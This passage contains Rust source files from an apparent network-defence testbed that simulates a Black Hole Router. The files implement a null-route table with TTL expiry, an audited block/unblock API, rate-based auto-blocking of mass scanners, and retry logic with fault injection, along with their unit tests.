            audit.push(AuditEntry {
                ts,
                command: "block".to_string(),
                addr: Some(addr),
                detail: reason,
            });
        }
    }

    /// Append a caller-defined audit entry (retry schedules, abandoned
    /// blocks, circuit-breaker transitions — response-path events that
    /// belong in the same ledger as the API verbs).
    pub fn audit_event(
        &self,
        ts: SimTime,
        command: &str,
        addr: Option<Ipv4Addr>,
        detail: impl Into<String>,
    ) {
        self.log(ts, command, addr, detail);
    }

    /// `bhr-client unblock`: remove a null route.
    pub fn unblock(&self, ts: SimTime, addr: Ipv4Addr) -> bool {
        let removed = self.inner.lock().unblock(addr).is_some();
        self.log(
            ts,
            "unblock",
            Some(addr),
            if removed { "removed" } else { "not-found" },
        );
        removed
    }

    /// `bhr-client query`: look up an address (audited, non-routing).
    pub fn query(&self, ts: SimTime, addr: Ipv4Addr) -> Option<Block> {
        let found = self.inner.lock().query(addr).cloned();
        self.log(
            ts,
            "query",
            Some(addr),
            if found.is_some() { "blocked" } else { "clear" },
        );
        found
    }

    /// `bhr-client list`: snapshot of active blocks.
    pub fn list(&self, ts: SimTime) -> Vec<(Ipv4Addr, Block)> {
        let snapshot: Vec<_> = self
            .inner
            .lock()
            .list()
            .map(|(a, b)| (*a, b.clone()))
            .collect();
        self.log(ts, "list", None, format!("{} entries", snapshot.len()));
        snapshot
    }

    /// Routing-path check (not audited; the router calls this per flow).
    pub fn is_blocked(&self, ts: SimTime, addr: Ipv4Addr) -> bool {
        self.inner.lock().is_blocked(addr, ts)
    }

    /// Sweep expired routes.
    pub fn sweep(&self, ts: SimTime) -> usize {
        let n = self.inner.lock().sweep(ts);
        self.log(ts, "sweep", None, format!("{n} expired"));
        n
    }

    pub fn stats(&self) -> TableStats {
        self.inner.lock().stats()
    }

    pub fn audit_log(&self) -> Vec<AuditEntry> {
        self.audit.lock().clone()
    }

    pub fn active_blocks(&self) -> usize {
        self.inner.lock().len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn addr(s: &str) -> Ipv4Addr {
        s.parse().unwrap()
    }

    #[test]
    fn api_verbs_and_audit() {
        let bhr = BhrHandle::new();
        let t0 = SimTime::from_secs(0);
        bhr.block(t0, addr("103.102.1.1"), "mass-scanner", None);
        assert!(bhr.query(t0, addr("103.102.1.1")).is_some());
        assert_eq!(bhr.list(t0).len(), 1);
        assert!(bhr.unblock(t0, addr("103.102.1.1")));
        assert!(!bhr.unblock(t0, addr("103.102.1.1")));
        let log = bhr.audit_log();
        let commands: Vec<_> = log.iter().map(|e| e.command.as_str()).collect();
        assert_eq!(
            commands,
            vec!["block", "query", "list", "unblock", "unblock"]
        );
    }

    #[test]
    fn block_batch_matches_singles() {
        let bhr = BhrHandle::new();
        let t0 = SimTime::from_secs(0);
        bhr.block_batch(
            (0..5u8).map(|i| (t0, Ipv4Addr::new(10, 0, 0, i), format!("batch {i}"), None)),
        );
        assert_eq!(bhr.active_blocks(), 5);
        let log = bhr.audit_log();
        assert_eq!(log.len(), 5);
        assert!(log.iter().all(|e| e.command == "block"));
    }

    #[test]
    fn redelivered_block_does_not_spam_the_audit_log() {
        let bhr = BhrHandle::new();
        let a = addr("203.0.113.9");
        // block → retry re-delivery → unblock → re-block.
        assert_eq!(
            bhr.block(SimTime::from_secs(0), a, "r", None),
            BlockOutcome::Added
        );
        assert_eq!(
            bhr.block(SimTime::from_secs(5), a, "r", None),
            BlockOutcome::Duplicate
        );
        assert_eq!(
            bhr.try_block(SimTime::from_secs(6), a, "r", None),
            Ok(BlockOutcome::Duplicate)
        );
        assert!(bhr.unblock(SimTime::from_secs(10), a));
        assert_eq!(
            bhr.block(SimTime::from_secs(20), a, "r", None),
            BlockOutcome::Added
        );
        let commands: Vec<String> = bhr.audit_log().iter().map(|e| e.command.clone()).collect();
        assert_eq!(
            commands,
            vec!["block", "unblock", "block"],
            "duplicates audit nothing"
        );
        let s = bhr.stats();
        assert_eq!(s.blocks_added, 2);
        assert_eq!(s.blocks_duplicate, 2);
        // Batched re-delivery is absorbed the same way.
        bhr.block_batch(vec![(SimTime::from_secs(30), a, "r".to_string(), None)]);
        assert_eq!(bhr.audit_log().len(), 3);
    }

    #[test]
    fn failing_backend_leaves_the_table_untouched() {
        use crate::retry::FlakyBackend;
        let bhr = BhrHandle::with_backend(FlakyBackend::failing_first(2));
        let a = addr("198.51.100.1");
        assert!(bhr.try_block(SimTime::from_secs(0), a, "r", None).is_err());
        assert!(
            !bhr.is_blocked(SimTime::from_secs(1), a),
            "no phantom block"
        );
        assert_eq!(bhr.stats().blocks_added, 0);
        assert!(bhr.try_block(SimTime::from_secs(2), a, "r", None).is_err());
        // Third attempt lands.
        assert_eq!(
            bhr.try_block(SimTime::from_secs(4), a, "r", None),
            Ok(BlockOutcome::Added)
        );
        assert!(bhr.is_blocked(SimTime::from_secs(5), a));
        let commands: Vec<String> = bhr.audit_log().iter().map(|e| e.command.clone()).collect();
        assert_eq!(commands, vec!["block-failed", "block-failed", "block"]);
    }

    #[test]
    fn clones_share_state() {
        let bhr = BhrHandle::new();
        let clone = bhr.clone();
        bhr.block(SimTime::from_secs(0), addr("1.1.1.1"), "x", None);
        assert!(clone.is_blocked(SimTime::from_secs(1), addr("1.1.1.1")));
        assert_eq!(clone.active_blocks(), 1);
    }

    #[test]
    fn concurrent_access() {
        let bhr = BhrHandle::new();
        let handles: Vec<_> = (0..8)
            .map(|i| {
                let b = bhr.clone();
                std::thread::spawn(move || {
                    for j in 0..100 {
                        let a: Ipv4Addr =
                            format!("10.{i}.{}.{}", j / 250, j % 250).parse().unwrap();
                        b.block(SimTime::from_secs(j as u64), a, "load", None);
                        assert!(b.is_blocked(SimTime::from_secs(j as u64), a));
                    }
                })
            })
            .collect();
        for h in handles {
            h.join().unwrap();
        }
        assert_eq!(bhr.active_blocks(), 800);
    }
}
