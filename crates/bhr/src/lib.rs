//! # bhr — the Black Hole Router
//!
//! The response component of Fig. 4: a null-route table with a
//! programmable API (modeled after `ncsa/bhr-client` [37]) plus a
//! rate-based auto-block policy, packaged as a border-router filter for the
//! simulation engine.
//!
//! - [`table`] — null routes with TTL expiry and hit counters.
//! - [`api`] — audited block / unblock / query / list verbs over a shared
//!   thread-safe handle.
//! - [`policy`] — auto-blocking of mass scanners + the
//!   [`policy::BhrFilter`] route filter.

pub mod api;
pub mod policy;
pub mod retry;
pub mod table;

pub use api::{AuditEntry, BhrHandle};
pub use policy::{AutoBlockPolicy, BhrFilter};
pub use retry::{BlockBackend, BlockError, FlakyBackend, ReliableBackend, RetryPolicy};
pub use table::{Block, BlockOutcome, NullRouteTable, TableStats};
