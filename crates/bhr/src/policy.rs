//! Auto-blocking policy and the border-router filter.
//!
//! Fig. 4's response path: mass scanners are blocked automatically by
//! rate-based policy ("real-time response to mass scanners"), while
//! targeted attacks are blocked by detector-driven remediation through the
//! API. [`BhrFilter`] plugs into the simulation border router as a
//! [`simnet::router::RouteFilter`].

use std::net::Ipv4Addr;

use serde::{Deserialize, Serialize};
use simnet::flow::Flow;
use simnet::rng::FxHashMap;
use simnet::router::{DropReason, RouteDecision, RouteFilter};
use simnet::time::{SimDuration, SimTime};

use crate::api::BhrHandle;

/// Rate-based auto-block policy: a source exceeding `max_probes` failed
/// probes within `window` is null-routed for `block_ttl`.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct AutoBlockPolicy {
    pub max_probes: u32,
    pub window: SimDuration,
    pub block_ttl: Option<SimDuration>,
}

impl Default for AutoBlockPolicy {
    fn default() -> Self {
        AutoBlockPolicy {
            max_probes: 100,
            window: SimDuration::from_mins(1),
            block_ttl: Some(SimDuration::from_hours(24)),
        }
    }
}

#[derive(Debug, Clone, Copy, Default)]
struct ProbeWindow {
    start: SimTime,
    count: u32,
}

/// The border filter: consults the shared BHR table, counts recorded
/// (dropped) scans, and applies the auto-block policy to probe-like flows.
#[derive(Debug)]
pub struct BhrFilter {
    handle: BhrHandle,
    policy: Option<AutoBlockPolicy>,
    probes: FxHashMap<Ipv4Addr, ProbeWindow>,
    scans_recorded: u64,
    auto_blocks: u64,
}

impl BhrFilter {
    pub fn new(handle: BhrHandle, policy: Option<AutoBlockPolicy>) -> Self {
        BhrFilter {
            handle,
            policy,
            probes: FxHashMap::default(),
            scans_recorded: 0,
            auto_blocks: 0,
        }
    }

    /// Scans that hit an installed null route (the paper's "black hole
    /// router recorded 26.85 million scans").
    pub fn scans_recorded(&self) -> u64 {
        self.scans_recorded
    }

    /// Number of sources auto-blocked by the rate policy.
    pub fn auto_blocks(&self) -> u64 {
        self.auto_blocks
    }

    pub fn handle(&self) -> &BhrHandle {
        &self.handle
    }

    fn note_probe(&mut self, t: SimTime, src: Ipv4Addr) {
        let Some(policy) = &self.policy else { return };
        let w = self
            .probes
            .entry(src)
            .or_insert(ProbeWindow { start: t, count: 0 });
        if t.saturating_since(w.start) > policy.window {
            w.start = t;
            w.count = 0;
        }
        w.count += 1;
        if w.count >= policy.max_probes {
            self.auto_blocks += 1;
            self.handle
                .block(t, src, "auto: scan rate exceeded", policy.block_ttl);
            self.probes.remove(&src);
        }
    }
}

impl RouteFilter for BhrFilter {
    fn check(&mut self, t: SimTime, flow: &Flow) -> RouteDecision {
        if self.handle.is_blocked(t, flow.src) {
            self.scans_recorded += 1;
            return RouteDecision::Drop(DropReason::NullRouted {
                reason: self
                    .handle
                    .query(t, flow.src)
                    .map(|b| b.reason)
                    .unwrap_or_else(|| "blocked".into()),
            });
        }
        if flow.state.probe_like() {
            self.note_probe(t, flow.src);
        }
        RouteDecision::Forward
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use simnet::flow::FlowId;

    fn probe(t: u64, src: &str, dst_last: u8) -> Flow {
        Flow::probe(
            FlowId(t),
            SimTime::from_secs(t),
            src.parse().unwrap(),
            format!("141.142.2.{dst_last}").parse().unwrap(),
            22,
        )
    }

    #[test]
    fn rate_policy_blocks_fast_scanner() {
        let handle = BhrHandle::new();
        let mut filter = BhrFilter::new(
            handle.clone(),
            Some(AutoBlockPolicy {
                max_probes: 10,
                window: SimDuration::from_mins(1),
                block_ttl: None,
            }),
        );
        let mut dropped = 0;
        for i in 0..50u64 {
            let f = probe(i, "103.102.1.1", (i % 250) as u8);
            match filter.check(SimTime::from_secs(i), &f) {
                RouteDecision::Forward => {}
                RouteDecision::Drop(_) => dropped += 1,
            }
        }
        // First 10 probes forward (the 10th triggers the block); the
        // remaining 40 are recorded drops.
        assert_eq!(dropped, 40);
        assert_eq!(filter.scans_recorded(), 40);
        assert_eq!(filter.auto_blocks(), 1);
        assert_eq!(handle.active_blocks(), 1);
    }

    #[test]
    fn slow_scanner_evades_rate_policy() {
        let handle = BhrHandle::new();
        let mut filter = BhrFilter::new(
            handle,
            Some(AutoBlockPolicy {
                max_probes: 10,
                window: SimDuration::from_mins(1),
                block_ttl: None,
            }),
        );
        // One probe every 2 minutes: window keeps resetting.
        for i in 0..30u64 {
            let f = probe(i * 120, "77.72.1.1", (i % 250) as u8);
            assert_eq!(
                filter.check(SimTime::from_secs(i * 120), &f),
                RouteDecision::Forward
            );
        }
        assert_eq!(filter.auto_blocks(), 0);
    }

    #[test]
    fn manual_block_via_api_respected() {
        let handle = BhrHandle::new();
        let mut filter = BhrFilter::new(handle.clone(), None);
        let f = probe(0, "111.200.1.1", 5);
        assert_eq!(
            filter.check(SimTime::from_secs(0), &f),
            RouteDecision::Forward
        );
        // Operator blocks via the API (detector-driven remediation).
        handle.block(
            SimTime::from_secs(1),
            "111.200.1.1".parse().unwrap(),
            "ransomware C2",
            None,
        );
        let f2 = probe(2, "111.200.1.1", 6);
        assert!(matches!(
            filter.check(SimTime::from_secs(2), &f2),
            RouteDecision::Drop(DropReason::NullRouted { .. })
        ));
    }

    #[test]
    fn established_flows_do_not_count_as_probes() {
        let handle = BhrHandle::new();
        let mut filter = BhrFilter::new(
            handle,
            Some(AutoBlockPolicy {
                max_probes: 2,
                window: SimDuration::from_hours(1),
                block_ttl: None,
            }),
        );
        for i in 0..10u64 {
            let f = Flow::established(
                FlowId(i),
                SimTime::from_secs(i),
                SimDuration::from_secs(1),
                "9.9.9.9".parse().unwrap(),
                40_000,
                "141.142.2.1".parse().unwrap(),
                443,
                1_000,
                1_000,
            );
            assert_eq!(
                filter.check(SimTime::from_secs(i), &f),
                RouteDecision::Forward
            );
        }
        assert_eq!(filter.auto_blocks(), 0);
    }
}
