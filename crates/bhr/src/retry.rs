//! Fallible block delivery and retry policy.
//!
//! The paper's response path assumes every BHR RPC lands. Production
//! deployments see the opposite: the router API times out, drops
//! connections, or rate-limits. This module makes delivery failure a
//! first-class, injectable behavior ([`BlockBackend`]) and defines the
//! [`RetryPolicy`] (exponential backoff + jitter, attempt cap, deadline,
//! circuit breaker) that the testbed's response stage uses to guarantee no
//! block is silently lost while failures are transient.

use std::net::Ipv4Addr;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

use serde::{Deserialize, Serialize};
use simnet::rng::SimRng;
use simnet::time::{SimDuration, SimTime};

/// Why a block RPC failed.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum BlockError {
    /// The backend RPC failed (transient: connection refused, 5xx, ...).
    Rpc(String),
    /// The backend did not answer within its deadline.
    Timeout,
}

impl std::fmt::Display for BlockError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            BlockError::Rpc(detail) => write!(f, "rpc error: {detail}"),
            BlockError::Timeout => write!(f, "rpc timeout"),
        }
    }
}

/// The transport that actually delivers a block to the router. The
/// in-memory table is only updated after the backend reports success, so
/// an injected failure models a block that never reached the BHR.
pub trait BlockBackend: Send + std::fmt::Debug {
    fn try_block(
        &mut self,
        ts: SimTime,
        addr: Ipv4Addr,
        reason: &str,
        ttl: Option<SimDuration>,
    ) -> Result<(), BlockError>;
}

/// The default backend: every RPC succeeds (the paper's assumption, and
/// the behavior of every pipeline that does not opt into fault
/// injection).
#[derive(Debug, Clone, Copy, Default)]
pub struct ReliableBackend;

impl BlockBackend for ReliableBackend {
    fn try_block(
        &mut self,
        _ts: SimTime,
        _addr: Ipv4Addr,
        _reason: &str,
        _ttl: Option<SimDuration>,
    ) -> Result<(), BlockError> {
        Ok(())
    }
}

/// A deterministic, seeded failing backend: each RPC independently fails
/// with `fail_prob`, and the first `fail_first` RPCs fail
/// unconditionally (for scripted retry tests). Shared atomic counters
/// stay readable after the backend is moved into a handle.
#[derive(Debug)]
pub struct FlakyBackend {
    fail_prob: f64,
    fail_first: u64,
    rng: SimRng,
    attempts: Arc<AtomicU64>,
    failures: Arc<AtomicU64>,
}

impl FlakyBackend {
    pub fn new(fail_prob: f64, seed: u64) -> FlakyBackend {
        FlakyBackend {
            fail_prob: fail_prob.clamp(0.0, 1.0),
            fail_first: 0,
            rng: SimRng::seed(seed),
            attempts: Arc::new(AtomicU64::new(0)),
            failures: Arc::new(AtomicU64::new(0)),
        }
    }

    /// A backend that fails its first `n` RPCs and then recovers —
    /// deterministic transient-outage scripting.
    pub fn failing_first(n: u64) -> FlakyBackend {
        let mut b = FlakyBackend::new(0.0, 0);
        b.fail_first = n;
        b
    }

    /// Shared RPC-attempt counter (clone before installing the backend).
    pub fn attempt_counter(&self) -> Arc<AtomicU64> {
        Arc::clone(&self.attempts)
    }

    /// Shared failed-RPC counter (clone before installing the backend).
    pub fn failure_counter(&self) -> Arc<AtomicU64> {
        Arc::clone(&self.failures)
    }
}

impl BlockBackend for FlakyBackend {
    fn try_block(
        &mut self,
        _ts: SimTime,
        addr: Ipv4Addr,
        _reason: &str,
        _ttl: Option<SimDuration>,
    ) -> Result<(), BlockError> {
        let n = self.attempts.fetch_add(1, Ordering::Relaxed);
        let fail = n < self.fail_first || self.rng.chance(self.fail_prob);
        if fail {
            self.failures.fetch_add(1, Ordering::Relaxed);
            Err(BlockError::Rpc(format!("injected failure for {addr}")))
        } else {
            Ok(())
        }
    }
}

/// Retry schedule for failed response deliveries: exponential backoff
/// with jitter, an attempt cap, an overall deadline, and a circuit
/// breaker that stops hammering a down router.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct RetryPolicy {
    /// Total delivery attempts per block (first try included) before the
    /// block is abandoned. `1` disables retries.
    pub max_attempts: u32,
    /// Backoff before the first retry; doubles each attempt.
    pub base_backoff: SimDuration,
    /// Backoff ceiling.
    pub max_backoff: SimDuration,
    /// Uniform jitter applied to each backoff: the delay is scaled by a
    /// factor in `[1 - jitter_frac, 1 + jitter_frac]`.
    pub jitter_frac: f64,
    /// Overall deadline per block, measured from first failure; past it
    /// the block is abandoned even if attempts remain.
    pub deadline: SimDuration,
    /// Consecutive delivery failures that trip the circuit breaker.
    pub breaker_threshold: u32,
    /// How long a tripped breaker stays open before probing again.
    pub breaker_cooldown: SimDuration,
}

impl Default for RetryPolicy {
    fn default() -> Self {
        RetryPolicy {
            max_attempts: 12,
            base_backoff: SimDuration::from_secs(1),
            max_backoff: SimDuration::from_mins(5),
            jitter_frac: 0.25,
            deadline: SimDuration::from_hours(1),
            breaker_threshold: 5,
            breaker_cooldown: SimDuration::from_secs(30),
        }
    }
}

impl RetryPolicy {
    /// The backoff before retry number `attempt` (1-based: `1` is the
    /// first retry). Deterministic in the caller's RNG stream.
    pub fn backoff(&self, attempt: u32, rng: &mut SimRng) -> SimDuration {
        let mut delay = self.base_backoff;
        for _ in 1..attempt.max(1) {
            delay = delay.saturating_add(delay);
            if delay >= self.max_backoff {
                break;
            }
        }
        if delay > self.max_backoff {
            delay = self.max_backoff;
        }
        let jitter = 1.0 + self.jitter_frac.clamp(0.0, 1.0) * (rng.f64() * 2.0 - 1.0);
        delay.mul_f64(jitter)
    }

    /// Whether a delivery that failed `elapsed` after the first failure
    /// is past the overall deadline. The deadline is inclusive: an
    /// attempt landing *exactly* on `first_failure + deadline` is still
    /// inside its retry budget ("past it the block is abandoned" — not
    /// "at it"), so a backend that recovers exactly at the boundary gets
    /// its probe.
    pub fn deadline_exceeded(&self, elapsed: SimDuration) -> bool {
        elapsed > self.deadline
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn addr() -> Ipv4Addr {
        "203.0.113.1".parse().unwrap()
    }

    #[test]
    fn reliable_backend_always_succeeds() {
        let mut b = ReliableBackend;
        for i in 0..100 {
            assert!(b
                .try_block(SimTime::from_secs(i), addr(), "r", None)
                .is_ok());
        }
    }

    #[test]
    fn flaky_backend_is_deterministic() {
        let run = || {
            let mut b = FlakyBackend::new(0.4, 99);
            (0..200)
                .map(|i| {
                    b.try_block(SimTime::from_secs(i), addr(), "r", None)
                        .is_ok()
                })
                .collect::<Vec<bool>>()
        };
        let a = run();
        assert_eq!(a, run(), "same seed, same failure pattern");
        let failures = a.iter().filter(|ok| !**ok).count();
        assert!(failures > 40 && failures < 140, "roughly 40%: {failures}");
    }

    #[test]
    fn failing_first_recovers_exactly_on_schedule() {
        let mut b = FlakyBackend::failing_first(3);
        let fails = b.failure_counter();
        for i in 0..3 {
            assert!(b
                .try_block(SimTime::from_secs(i), addr(), "r", None)
                .is_err());
        }
        assert!(b
            .try_block(SimTime::from_secs(3), addr(), "r", None)
            .is_ok());
        assert_eq!(fails.load(Ordering::Relaxed), 3);
    }

    #[test]
    fn backoff_grows_exponentially_to_the_cap() {
        let policy = RetryPolicy {
            jitter_frac: 0.0,
            ..RetryPolicy::default()
        };
        let mut rng = SimRng::seed(1);
        assert_eq!(policy.backoff(1, &mut rng), SimDuration::from_secs(1));
        assert_eq!(policy.backoff(2, &mut rng), SimDuration::from_secs(2));
        assert_eq!(policy.backoff(5, &mut rng), SimDuration::from_secs(16));
        // Far past the doubling range: clamped to the ceiling.
        assert_eq!(policy.backoff(30, &mut rng), SimDuration::from_mins(5));
    }

    #[test]
    fn deadline_boundary_is_inclusive() {
        let policy = RetryPolicy::default(); // deadline: 1h
        assert!(!policy.deadline_exceeded(SimDuration::ZERO));
        assert!(
            !policy.deadline_exceeded(SimDuration::from_hours(1)),
            "an attempt exactly at the deadline is still inside the budget"
        );
        assert!(policy.deadline_exceeded(SimDuration::from_nanos(
            SimDuration::from_hours(1).as_nanos() + 1
        )));
    }

    #[test]
    fn jitter_stays_inside_the_band() {
        let policy = RetryPolicy::default(); // jitter_frac 0.25
        let mut rng = SimRng::seed(7);
        for attempt in 1..=12 {
            let nominal = RetryPolicy {
                jitter_frac: 0.0,
                ..policy.clone()
            }
            .backoff(attempt, &mut SimRng::seed(0));
            let jittered = policy.backoff(attempt, &mut rng);
            let lo = nominal.mul_f64(0.75);
            let hi = nominal.mul_f64(1.25);
            assert!(
                jittered >= lo && jittered <= hi,
                "attempt {attempt}: {jittered:?} outside [{lo:?}, {hi:?}]"
            );
        }
    }
}
