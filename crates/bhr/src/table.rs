//! The null-route table.
//!
//! NCSA's Black Hole Router holds null routes for blocked sources; routes
//! can expire. The table records every lookup so the testbed can report
//! figures like "26.85 million scans recorded in one hour" (Fig. 1's data
//! source).

use std::net::Ipv4Addr;

use serde::{Deserialize, Serialize};
use simnet::rng::FxHashMap;
use simnet::time::{SimDuration, SimTime};

/// One null-route entry.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Block {
    pub reason: String,
    pub inserted: SimTime,
    /// `None` = permanent.
    pub expires: Option<SimTime>,
}

impl Block {
    pub fn active_at(&self, t: SimTime) -> bool {
        self.expires.is_none_or(|e| t < e)
    }
}

/// Table counters.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct TableStats {
    pub blocks_added: u64,
    pub blocks_removed: u64,
    pub blocks_expired: u64,
    pub lookups: u64,
    /// Lookups that hit an active block — i.e., packets recorded by the
    /// black hole.
    pub hits: u64,
}

/// The null-route table.
#[derive(Debug, Default)]
pub struct NullRouteTable {
    entries: FxHashMap<Ipv4Addr, Block>,
    stats: TableStats,
}

impl NullRouteTable {
    pub fn new() -> Self {
        Self::default()
    }

    /// Install a null route. Re-blocking overwrites the existing entry.
    pub fn block(
        &mut self,
        addr: Ipv4Addr,
        reason: impl Into<String>,
        now: SimTime,
        ttl: Option<SimDuration>,
    ) {
        self.stats.blocks_added += 1;
        self.entries.insert(
            addr,
            Block {
                reason: reason.into(),
                inserted: now,
                expires: ttl.map(|d| now + d),
            },
        );
    }

    /// Remove a null route. Returns the removed entry, if any.
    pub fn unblock(&mut self, addr: Ipv4Addr) -> Option<Block> {
        let removed = self.entries.remove(&addr);
        if removed.is_some() {
            self.stats.blocks_removed += 1;
        }
        removed
    }

    /// Whether traffic from `addr` is null-routed at time `t`. Expired
    /// entries are lazily removed.
    pub fn is_blocked(&mut self, addr: Ipv4Addr, t: SimTime) -> bool {
        self.stats.lookups += 1;
        match self.entries.get(&addr) {
            Some(b) if b.active_at(t) => {
                self.stats.hits += 1;
                true
            }
            Some(_) => {
                self.entries.remove(&addr);
                self.stats.blocks_expired += 1;
                false
            }
            None => false,
        }
    }

    /// Read-only query that does not count as a routing lookup.
    pub fn query(&self, addr: Ipv4Addr) -> Option<&Block> {
        self.entries.get(&addr)
    }

    /// Sweep all expired entries.
    pub fn sweep(&mut self, t: SimTime) -> usize {
        let before = self.entries.len();
        self.entries.retain(|_, b| b.active_at(t));
        let removed = before - self.entries.len();
        self.stats.blocks_expired += removed as u64;
        removed
    }

    /// Active block list (unordered).
    pub fn list(&self) -> impl Iterator<Item = (&Ipv4Addr, &Block)> {
        self.entries.iter()
    }

    pub fn len(&self) -> usize {
        self.entries.len()
    }

    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    pub fn stats(&self) -> TableStats {
        self.stats
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn addr(s: &str) -> Ipv4Addr {
        s.parse().unwrap()
    }

    #[test]
    fn block_and_lookup() {
        let mut t = NullRouteTable::new();
        t.block(
            addr("103.102.1.1"),
            "mass-scanner",
            SimTime::from_secs(0),
            None,
        );
        assert!(t.is_blocked(addr("103.102.1.1"), SimTime::from_secs(100)));
        assert!(!t.is_blocked(addr("8.8.8.8"), SimTime::from_secs(100)));
        let s = t.stats();
        assert_eq!(s.lookups, 2);
        assert_eq!(s.hits, 1);
    }

    #[test]
    fn ttl_expiry() {
        let mut t = NullRouteTable::new();
        t.block(
            addr("1.1.1.1"),
            "temp",
            SimTime::from_secs(0),
            Some(SimDuration::from_secs(60)),
        );
        assert!(t.is_blocked(addr("1.1.1.1"), SimTime::from_secs(59)));
        assert!(!t.is_blocked(addr("1.1.1.1"), SimTime::from_secs(61)));
        assert_eq!(t.len(), 0, "expired entry lazily removed");
        assert_eq!(t.stats().blocks_expired, 1);
    }

    #[test]
    fn unblock_removes() {
        let mut t = NullRouteTable::new();
        t.block(addr("1.1.1.1"), "x", SimTime::from_secs(0), None);
        let removed = t.unblock(addr("1.1.1.1")).unwrap();
        assert_eq!(removed.reason, "x");
        assert!(t.unblock(addr("1.1.1.1")).is_none());
        assert!(!t.is_blocked(addr("1.1.1.1"), SimTime::from_secs(1)));
    }

    #[test]
    fn sweep_removes_expired_in_bulk() {
        let mut t = NullRouteTable::new();
        for i in 0..10 {
            t.block(
                addr(&format!("10.0.0.{i}")),
                "ttl",
                SimTime::from_secs(0),
                Some(SimDuration::from_secs(10)),
            );
        }
        t.block(addr("10.0.1.1"), "permanent", SimTime::from_secs(0), None);
        assert_eq!(t.sweep(SimTime::from_secs(100)), 10);
        assert_eq!(t.len(), 1);
    }

    #[test]
    fn reblock_overwrites() {
        let mut t = NullRouteTable::new();
        t.block(
            addr("1.1.1.1"),
            "first",
            SimTime::from_secs(0),
            Some(SimDuration::from_secs(5)),
        );
        t.block(addr("1.1.1.1"), "second", SimTime::from_secs(1), None);
        assert_eq!(t.query(addr("1.1.1.1")).unwrap().reason, "second");
        assert!(t.is_blocked(addr("1.1.1.1"), SimTime::from_secs(1_000)));
    }
}
