//! The null-route table.
//!
//! NCSA's Black Hole Router holds null routes for blocked sources; routes
//! can expire. The table records every lookup so the testbed can report
//! figures like "26.85 million scans recorded in one hour" (Fig. 1's data
//! source).

use std::net::Ipv4Addr;

use serde::{Deserialize, Serialize};
use simnet::rng::FxHashMap;
use simnet::time::{SimDuration, SimTime};

/// One null-route entry.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Block {
    pub reason: String,
    pub inserted: SimTime,
    /// `None` = permanent.
    pub expires: Option<SimTime>,
}

impl Block {
    pub fn active_at(&self, t: SimTime) -> bool {
        self.expires.is_none_or(|e| t < e)
    }
}

/// Table counters.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct TableStats {
    pub blocks_added: u64,
    pub blocks_removed: u64,
    pub blocks_expired: u64,
    /// Re-blocks of an active entry with a new reason (overwrites).
    pub blocks_updated: u64,
    /// Re-deliveries of an already-installed block (same reason, still
    /// active) — absorbed without touching the entry. Retrying response
    /// paths make these routine, so they must not inflate
    /// `blocks_added`.
    pub blocks_duplicate: u64,
    pub lookups: u64,
    /// Lookups that hit an active block — i.e., packets recorded by the
    /// black hole.
    pub hits: u64,
}

/// What a `block` call did to the table — lets callers (and the audit
/// log) distinguish fresh installs from reason changes from idempotent
/// re-deliveries.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum BlockOutcome {
    /// No active entry existed; a null route was installed.
    Added,
    /// An active entry existed with a different reason; it was
    /// overwritten.
    Updated,
    /// An active entry with the same reason already existed; nothing
    /// changed.
    Duplicate,
}

/// The null-route table.
#[derive(Debug, Default)]
pub struct NullRouteTable {
    entries: FxHashMap<Ipv4Addr, Block>,
    stats: TableStats,
}

impl NullRouteTable {
    pub fn new() -> Self {
        Self::default()
    }

    /// Install a null route, idempotently. Re-blocking an active entry
    /// with the same reason is a no-op duplicate (retry deliveries must
    /// not double-count); re-blocking with a different reason overwrites;
    /// anything else installs fresh.
    pub fn block(
        &mut self,
        addr: Ipv4Addr,
        reason: impl Into<String>,
        now: SimTime,
        ttl: Option<SimDuration>,
    ) -> BlockOutcome {
        let reason = reason.into();
        let outcome = match self.entries.get(&addr) {
            Some(existing) if existing.active_at(now) => {
                if existing.reason == reason {
                    self.stats.blocks_duplicate += 1;
                    return BlockOutcome::Duplicate;
                }
                self.stats.blocks_updated += 1;
                BlockOutcome::Updated
            }
            _ => {
                self.stats.blocks_added += 1;
                BlockOutcome::Added
            }
        };
        self.entries.insert(
            addr,
            Block {
                reason,
                inserted: now,
                expires: ttl.map(|d| now + d),
            },
        );
        outcome
    }

    /// Remove a null route. Returns the removed entry, if any.
    pub fn unblock(&mut self, addr: Ipv4Addr) -> Option<Block> {
        let removed = self.entries.remove(&addr);
        if removed.is_some() {
            self.stats.blocks_removed += 1;
        }
        removed
    }

    /// Whether traffic from `addr` is null-routed at time `t`. Expired
    /// entries are lazily removed.
    pub fn is_blocked(&mut self, addr: Ipv4Addr, t: SimTime) -> bool {
        self.stats.lookups += 1;
        match self.entries.get(&addr) {
            Some(b) if b.active_at(t) => {
                self.stats.hits += 1;
                true
            }
            Some(_) => {
                self.entries.remove(&addr);
                self.stats.blocks_expired += 1;
                false
            }
            None => false,
        }
    }

    /// Read-only query that does not count as a routing lookup.
    pub fn query(&self, addr: Ipv4Addr) -> Option<&Block> {
        self.entries.get(&addr)
    }

    /// Sweep all expired entries.
    pub fn sweep(&mut self, t: SimTime) -> usize {
        let before = self.entries.len();
        self.entries.retain(|_, b| b.active_at(t));
        let removed = before - self.entries.len();
        self.stats.blocks_expired += removed as u64;
        removed
    }

    /// Active block list (unordered).
    pub fn list(&self) -> impl Iterator<Item = (&Ipv4Addr, &Block)> {
        self.entries.iter()
    }

    pub fn len(&self) -> usize {
        self.entries.len()
    }

    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

